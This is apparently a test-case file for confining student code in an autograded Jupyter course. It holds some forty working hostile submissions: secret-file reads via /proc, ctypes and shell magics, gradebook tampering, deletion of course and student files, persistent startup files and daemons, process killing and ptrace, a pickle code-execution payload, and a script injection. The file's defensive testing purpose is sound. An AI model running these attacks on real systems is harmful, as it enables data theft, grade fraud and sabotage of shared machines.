"""Attacks on the machine: files, network, other processes, other students, and what runs after grading."""

# ruff: noqa: E501  code that is handed in stays as it was typed
from __future__ import annotations

from typing import Any

from corpus.assignment import RIGHT
from corpus.case import Case, limit

TITLE = "Reaching out of the notebook"

# The worst of these would end every process of a user whom nothing confines. They look for a system call filter of
# their own or for the mark of the cage first, so that an error in a test's set-up costs nothing.
CONFINED_ONLY = """
import ctypes, os
confined = ctypes.CDLL(None).prctl(21, 0, 0, 0, 0) != 0 or os.path.exists("/tmp/qlearn-cage")
if not confined:
    raise RuntimeError("not confined: nothing was tried")
"""


def harm(name: str, tries: str, code: str, *, at: str = "normalise", **more: Any) -> Case:
    """Right answers everywhere, and code beside one of them that reaches out; whether it fails is its own affair."""
    guarded = "def _reach_out():\n" + "\n".join("    " + line for line in code.strip("\n").splitlines())
    code = f"{guarded}\ntry:\n    _reach_out()\nexcept Exception as error:\n    print(type(error).__name__, error)\n"
    return limit(name, tries, code + RIGHT[at], at=at, deserved=more.pop("deserved", {}), **more)


def shell(name: str, tries: str, code: str, **more: Any) -> Case:
    """The same for magics, which cannot stand in a function; the answer stands below."""
    return limit(name, tries, code, deserved=more.pop("deserved", {}), pending=frozenset({"test_normalise"}), **more)


BELOW = "\n" + RIGHT["normalise"]

CASES = [
    harm("secret-opened", "Opens a file outside and prints it.", "print(open(@SECRET@).read())"),
    harm(
        "secret-by-descriptor",
        "Opens it by way of system calls, /proc and ctypes.",
        """import ctypes, os
for way in (@SECRET@, "/proc/self/root" + @SECRET@, "/proc/thread-self/root" + @SECRET@):
    try:
        print(os.read(os.open(way, os.O_RDONLY), 100))
    except OSError:
        pass
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(100)
libc.read(libc.open(@SECRET@.encode(), 0), buffer, 99)
print(buffer.value)""",
    ),
    harm(
        "secret-by-numpy",
        "Reads it with numpy, mmap and linecache.",
        """import linecache
print(linecache.getlines(@SECRET@))
print(bytes(np.memmap(@SECRET@, mode="r")))""",
    ),
    harm(
        "secret-by-link",
        "Plants links to it in its own folder, symbolic and hard, and reads those.",
        """import os
for make in (os.symlink, os.link):
    try:
        make(@SECRET@, f"harmless-{make.__name__}.txt")
        print(open(f"harmless-{make.__name__}.txt").read())
    except OSError as error:
        print(error.strerror)""",
    ),
    harm(
        "secret-by-program",
        "Lets another program read it.",
        """import os, subprocess
for run in (lambda: subprocess.run(["cat", @SECRET@], capture_output=True).stdout,
            lambda: os.popen("cat " + @SECRET@).read(),
            lambda: subprocess.check_output("cat " + @SECRET@, shell=True)):
    try:
        print(run())
    except OSError as error:
        print(error.strerror)""",
    ),
    shell("secret-by-shell-line", "Reads it with a shell line.", "!cat @SECRET@" + BELOW),
    Case(
        "secret-by-bash-cell",
        "Reads it in a cell of its own with %%bash.",
        lambda desk: desk.insert("%%bash\ncat @SECRET@\ncp @SECRET@ @EXCHANGE@/found.txt", before="normalise"),
    ),
    Case(
        "secret-by-magics",
        "Reads it with %run, %load and %%writefile in cells of their own.",
        lambda desk: [
            desk.insert(code, before="normalise")
            for code in (
                "%run -i @SECRET@",
                "%load @SECRET@",
                "%pycat @SECRET@",
                "%cat @SECRET@",
                "%%writefile @EXCHANGE@/found.txt\nfound",
            )
        ][:0],
    ),
    harm(
        "secret-shown-as-picture",
        "Displays it through IPython's display classes and a link in HTML.",
        """from IPython.display import HTML, FileLink, Image, display
for make in (lambda: FileLink(@SECRET@), lambda: HTML(filename=@SECRET@), lambda: Image(filename=@SECRET@, format="png")):
    try:
        display(make())
    except Exception as error:
        print(type(error).__name__)""",
    ),
    harm(
        "secret-by-parent",
        "Reads it through the folders, memory and environment of its parent processes.",
        """import os
for number in (os.getppid(), 1, os.getpid() - 1, os.getpid() - 2):
    for part in ("cwd/secret.txt", "cwd/../secret.txt", "root" + @SECRET@, "environ", "fd/3"):
        try:
            with open(f"/proc/{number}/{part}", "rb") as stream:
                os.set_blocking(stream.fileno(), False)
                print((stream.read(5000) or b"")[:5000])
        except (OSError, ValueError):
            pass""",
    ),
    harm("secret-overwritten", "Writes into the file outside.", "open(@SECRET@, 'a').write('mine')"),
    harm(
        "secret-touched",
        "Changes the file's rights, times and attributes.",
        """import os
for change in (lambda: os.chmod(@SECRET@, 0o777), lambda: os.utime(@SECRET@, (1, 1)),
               lambda: os.setxattr(@SECRET@, "user.mine", b"1"), lambda: os.truncate(@SECRET@, 0),
               lambda: os.rename(@SECRET@, @SECRET@ + ".old"), lambda: os.unlink(@SECRET@)):
    try:
        change()
    except OSError as error:
        print(error.strerror)""",
    ),
    harm(
        "exchange-written",
        "Leaves a file in the exchange folder, where everybody may write.",
        "open(@EXCHANGE@ + '/note.txt', 'w').write('from mallory')",
    ),
    harm(
        "course-deleted",
        "Deletes the course folder.",
        "import shutil\nshutil.rmtree(@COURSE@, ignore_errors=True)",
    ),
    harm(
        "other-student-spoilt",
        "Overwrites another student's hand-in.",
        """import glob
for path in glob.glob(@COURSE@ + "/submitted/*/corpus/*.ipynb"):
    if "mallory" not in path:
        open(path, "w").write("{}")""",
    ),
    harm(
        "source-changed",
        "Puts easy tests into the teacher's source and the released notebook.",
        """import glob
for path in glob.glob(@COURSE@ + "/source/corpus/*.ipynb") + glob.glob(@COURSE@ + "/release/corpus/*.ipynb"):
    text = open(path).read()
    open(path, "w").write(text.replace("assert close(mean, 2.5)", "assert True"))""",
    ),
    harm(
        "gradebook-edited",
        "Gives everybody other marks in the gradebook.",
        """import sqlite3
with sqlite3.connect(@GRADEBOOK@, timeout=1) as gradebook:
    gradebook.execute("update grade set manual_score = 77, auto_score = 77")""",
    ),
    harm(
        "gradebook-locked",
        "Keeps the gradebook locked until the notebook ends.",
        """import sqlite3
global held
held = sqlite3.connect(@GRADEBOOK@, isolation_level=None, timeout=1)
held.execute("begin exclusive")""",
    ),
    harm(
        "daemon-edits-later",
        "Leaves a process behind that edits the gradebook once everybody is graded.",
        """import os, sqlite3, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(40):
            try:
                with sqlite3.connect(@GRADEBOOK@, timeout=1) as gradebook:
                    gradebook.execute("update grade set manual_score = 77 where auto_score is not null")
                open(@EXCHANGE@ + "/daemon.txt", "a").write("here")
            except Exception:
                pass
            time.sleep(0.5)
    os._exit(0)""",
        settle_seconds=2.0,
    ),
    harm(
        "program-left-running",
        "Starts a program in a session of its own and leaves it running.",
        "import subprocess\nsubprocess.Popen(['sleep', '300'], start_new_session=True)",
    ),
    shell("shell-job-left-running", "Leaves a background job of a shell line running.", "!nohup sleep 300 &" + BELOW),
    harm(
        "forked-twice-and-holding",
        "Leaves a grandchild that holds every pipe open, so that whoever reads to the end waits.",
        """import os, time
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(120)
    os._exit(0)""",
    ),
    harm(
        "startup-file-left",
        "Leaves a start-up file in the home folder, which would run in the next student's kernel.",
        """import os
from pathlib import Path
code = "raise SystemExit('spoilt by mallory')\\nimport os; os._exit(1)\\n"
for home in (Path(@HOME@), Path.home(), Path(os.path.expanduser("~"))):
    for place in (".ipython/profile_default/startup/00-mallory.py", ".ipython/profile_default/ipython_config.py"):
        try:
            (home / place).parent.mkdir(parents=True, exist_ok=True)
            (home / place).write_text(code)
        except OSError as error:
            print(error.strerror)""",
    ),
    harm(
        "kernel-spec-left",
        "Leaves a kernel of its own for the next students.",
        """import json
from pathlib import Path
for home in (Path(@HOME@), Path.home()):
    folder = home / ".local/share/jupyter/kernels/python3"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "kernel.json").write_text(json.dumps({"argv": ["false"], "display_name": "Python 3", "language": "python"}))""",
    ),
    harm(
        "user-site-left",
        "Leaves usercustomize.py and a .pth file where Python looks for the user's packages.",
        """import os, site
for base in (os.path.join(@HOME@, ".local/lib/python3.11/site-packages"), site.getusersitepackages()):
    os.makedirs(base, exist_ok=True)
    open(base + "/usercustomize.py", "w").write("import os; os._exit(1)")
    open(base + "/mallory.pth", "w").write("import os; os._exit(1)")""",
    ),
    harm(
        "settings-left",
        "Leaves settings of matplotlib and nbgrader in the home folder.",
        """from pathlib import Path
for home in (Path(@HOME@), Path.home()):
    for place, text in ((".config/matplotlib/matplotlibrc", "backend: nonsense"),
                        (".jupyter/nbgrader_config.py", "raise SystemExit"), (".bashrc", "exit 1")):
        (home / place).parent.mkdir(parents=True, exist_ok=True)
        (home / place).write_text(text)""",
    ),
    harm(
        "shared-memory-left",
        "Leaves shared memory, a semaphore and files in the folders that all users share.",
        """import os
for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run/lock"):
    try:
        open(folder + "/qlearn-corpus-left-by-mallory", "w").write("x")
    except OSError as error:
        print(error.strerror)
import multiprocessing.shared_memory as shared
shared.SharedMemory("qlearn-corpus-left-by-mallory", create=True, size=1000)""",
    ),
    harm(
        "network-called",
        "Opens a connection to a listener on the same machine.",
        """import socket
with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as call:
    call.sendall(b"hello from mallory")""",
    ),
    harm(
        "network-by-url",
        "Fetches a page through urllib, http.client and numpy's data source.",
        """import urllib.request, http.client
try:
    urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=2)
except OSError as error:
    print(type(error).__name__)
np.lib.npyio.DataSource().open("http://127.0.0.1:@PORT@/data.txt")""",
    ),
    harm(
        "network-by-ctypes",
        "Makes a socket through the C library.",
        """import ctypes, struct, socket
libc = ctypes.CDLL(None, use_errno=True)
descriptor = libc.socket(2, 1, 0)
address = struct.pack("<H", 2) + struct.pack(">H", @PORT@) + bytes([127, 0, 0, 1]) + bytes(8)
print(descriptor >= 0 and libc.connect(descriptor, address, len(address)))""",
    ),
    shell(
        "network-by-shell",
        "Calls the listener from bash.",
        "!bash -c 'echo hello > /dev/tcp/127.0.0.1/@PORT@'" + BELOW,
    ),
    harm(
        "kernel-calls",
        "Asks for what only a system's owner may have: namespaces, mounts, io_uring, bpf, keys, other roots.",
        """import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number in (425, 321, 250, 161, 165, 272, 308, 101, 304, 175, 246, 169):
    libc.syscall(number, 0, 0, 0, 0, 0, 0)
print(open(@SECRET@).read())""",
    ),
    harm(
        "parent-traced",
        "Attaches to its parent as a debugger would and writes into its memory.",
        CONFINED_ONLY
        + """
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
print(libc.ptrace(16, parent, 0, 0))
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
there = ctypes.create_string_buffer(b"mine")
local = Vector(ctypes.cast(there, ctypes.c_void_p), 4)
remote = Vector(0x400000, 4)
print(libc.process_vm_writev(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
open(f"/proc/{parent}/mem", "wb").write(b"mine")""",
    ),
    harm(
        "parent-stopped",
        "Stops and ends its parent processes by signals.",
        CONFINED_ONLY
        + """
import signal
for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    try:
        os.kill(os.getppid(), number)
    except OSError as error:
        print(error.strerror)""",
        deserved={},
    ),
    harm(
        "everyone-killed",
        "Sends a deadly signal to every process it may reach.",
        CONFINED_ONLY + "\nimport signal\nos.kill(-1, signal.SIGKILL)",
    ),
    harm(
        "group-killed",
        "Ends its own process group, and with it whoever shares the group.",
        CONFINED_ONLY + "\nimport signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nos.killpg(0, signal.SIGTERM)",
    ),
    harm(
        "priorities-changed",
        "Slows every other process and raises its own limits.",
        """import os, resource
for change in (lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.nice(-5),
               lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)),
               lambda: resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))):
    try:
        change()
    except (OSError, ValueError) as error:
        print(type(error).__name__)""",
    ),
    harm(
        "own-folder-spoilt",
        "Takes all rights from its own folder and puts links in the place of what a grader might write there.",
        """import os
for name in ("physics.ipynb", "words.ipynb", "data.csv", "timestamp.txt", "report.json"):
    try:
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(@SECRET@, name)
    except OSError as error:
        print(error.strerror)
os.chmod(".", 0)""",
    ),
    harm(
        "folder-left",
        "Changes to another folder and stays there.",
        "import os\nos.chdir('/')\nos.umask(0o777)",
    ),
    limit(
        "pickle-payload",
        "Returns objects whose pickles run code in whoever reads them.",
        """import os
class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + @EXCHANGE@ + "/pickled; echo pwned > " + @SECRET@,))
def transmission(angle):
    return Payload()
mine = Payload()""",
        at="transmission",
    ),
    limit(
        "code-in-names",
        "Returns types and exceptions whose names and modules ask to be imported.",
        """class Strange(Exception):
    pass
Strange.__module__ = "os"
Strange.__qualname__ = "system"
Strange.__name__ = "'; import os; os.system('touch ' + @EXCHANGE@ + '/named') #"
def transmission(angle):
    raise Strange("x")""",
        at="transmission",
    ),
    harm(
        "script-in-output",
        "Displays a script and an image that loads from elsewhere.",
        """from IPython.display import HTML, Javascript, display
display(HTML("<script>fetch('http://127.0.0.1:@PORT@/')</script><img src=x onerror='alert(1)'>"))
display(Javascript("alert(1)"))
print("<script>alert(1)</script>")""",
    ),
    harm(
        "bytecode-left",
        "Compiles a changed numpy file next to the real one and changes the interpreter's own folder.",
        """import numpy, os, sys
for folder in (os.path.dirname(numpy.__file__), os.path.dirname(os.__file__), sys.prefix):
    try:
        open(folder + "/qlearn_corpus_mallory.py", "w").write("x = 1")
        os.unlink(folder + "/qlearn_corpus_mallory.py")
        open(@EXCHANGE@ + "/wrote-into-python.txt", "w").write(folder)
    except OSError as error:
        print(error.strerror)""",
    ),
    harm(
        "tracing-left-in-memory",
        "Patches the modules it shares with its parent, in the hope that the next student inherits them.",
        """import builtins, math, sys
import numpy
builtins.abs = lambda value: 1.0 / 0.0
math.cos = numpy.cos = numpy.sqrt = numpy.linalg.norm = None
sys.modules["contextlib"] = None""",
        at="median",
    ),
]
